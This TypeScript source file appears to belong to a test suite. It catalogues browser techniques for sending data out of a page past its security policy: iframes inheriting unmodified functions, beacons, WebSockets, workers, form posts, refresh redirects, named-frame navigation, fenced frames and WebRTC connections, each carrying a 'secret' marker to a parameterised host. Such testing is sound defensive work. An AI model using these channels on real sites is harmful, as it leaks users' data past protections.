import { each, type Ways } from './way.ts'

/** What a frame without a URL of its own could do: it inherits the page's policy, with unmodified browser functions. */
export const frameWays: Ways = {
  ...each('empty frame', ['beacon', 'WebSocket', 'EventSource', 'worker', 'form'], ({ to, detail }) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const inside = frame.contentWindow as unknown as Window & typeof globalThis
    if (detail === 'beacon') inside.navigator.sendBeacon(`${to}/`, 'secret')
    if (detail === 'WebSocket') new inside.WebSocket(to.replace('http', 'ws'))
    if (detail === 'EventSource') new inside.EventSource(`${to}/`)
    if (detail === 'worker') new inside.Worker(`data:text/javascript,fetch("${to}/?w",{mode:"no-cors"})`)
    if (detail !== 'form') return
    const form = inside.document.createElement('form')
    form.action = `${to}/`
    form.method = 'post'
    inside.document.body.append(form)
    form.submit()
  }),
  'empty frame in a sandbox': ({ to }) => {
    const frame = document.createElement('iframe')
    frame.setAttribute(
      'sandbox',
      'allow-scripts allow-same-origin allow-popups allow-forms allow-top-navigation',
    )
    document.body.append(frame)
    const inside = frame.contentWindow as unknown as typeof globalThis
    return inside.fetch(`${to}/?sandbox`, { mode: 'no-cors' })
  },
  'empty frame without credentials': ({ to }) => {
    const frame = document.createElement('iframe')
    Object.assign(frame, { credentialless: true })
    document.body.append(frame)
    const inside = frame.contentWindow as unknown as typeof globalThis
    return inside.fetch(`${to}/?credentialless`, { mode: 'no-cors' })
  },
  'frame with a text that refreshes': ({ to }) => {
    const frame = document.createElement('iframe')
    frame.srcdoc = `<meta http-equiv="refresh" content="0; url=${to}/?text">`
    document.body.append(frame)
  },
  'frame in memory that refreshes': ({ to }) => {
    const page = `<meta http-equiv="refresh" content="0; url=${to}/?memory">`
    const frame = document.createElement('iframe')
    frame.src = URL.createObjectURL(new Blob([page], { type: 'text/html' }))
    document.body.append(frame)
  },
  'link into a named frame': ({ to }) => {
    const frame = document.createElement('iframe')
    frame.name = 'link'
    const link = document.createElement('a')
    link.href = `${to}/?named`
    link.target = 'link'
    document.body.append(frame, link)
    link.click()
  },
  'window.open into a named frame': ({ to }) => {
    const frame = document.createElement('iframe')
    frame.name = 'open'
    document.body.append(frame)
    window.open(`${to}/?named`, 'open')
  },
  'form into a named frame': ({ to }) => {
    const frame = document.createElement('iframe')
    frame.name = 'form'
    const form = document.createElement('form')
    form.action = `${to}/`
    form.target = 'form'
    document.body.append(frame, form)
    form.submit()
  },
  'fenced frame': ({ to }) => {
    const { FencedFrameConfig: Config } = window as unknown as {
      FencedFrameConfig: new (address: string) => object
    }
    const frame = document.createElement('fencedframe')
    Object.assign(frame, { config: new Config(`${to}/?fenced`) })
    document.body.append(frame)
  },
}

/** Peer connections, by IP address. */
export const peerWays: Ways = {
  'empty frame, peer connection': async ({ port }) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const { RTCPeerConnection: Peer } = frame.contentWindow as unknown as typeof globalThis
    const connection = new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
    connection.createDataChannel('secret')
    await connection.setLocalDescription(await connection.createOffer())
    Object.assign(frame, { connection })
  },
  ...each('peer connection to an address of', ['the page', 'an empty frame'], async ({ port, detail }) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const inside = detail === 'the page' ? window : frame.contentWindow
    const { RTCPeerConnection: Peer } = inside as unknown as typeof globalThis
    const [one, other] = [new Peer(), new Peer()]
    one.createDataChannel('secret')
    await one.setLocalDescription(await one.createOffer())
    if (one.localDescription) await other.setRemoteDescription(one.localDescription)
    await other.setLocalDescription(await other.createAnswer())
    if (other.localDescription) await one.setRemoteDescription(other.localDescription)
    const candidate = `candidate:1 1 udp 2130706431 127.0.0.1 ${port} typ host`
    await one.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 })
    Object.assign(frame, { kept: [one, other] })
  }),
}
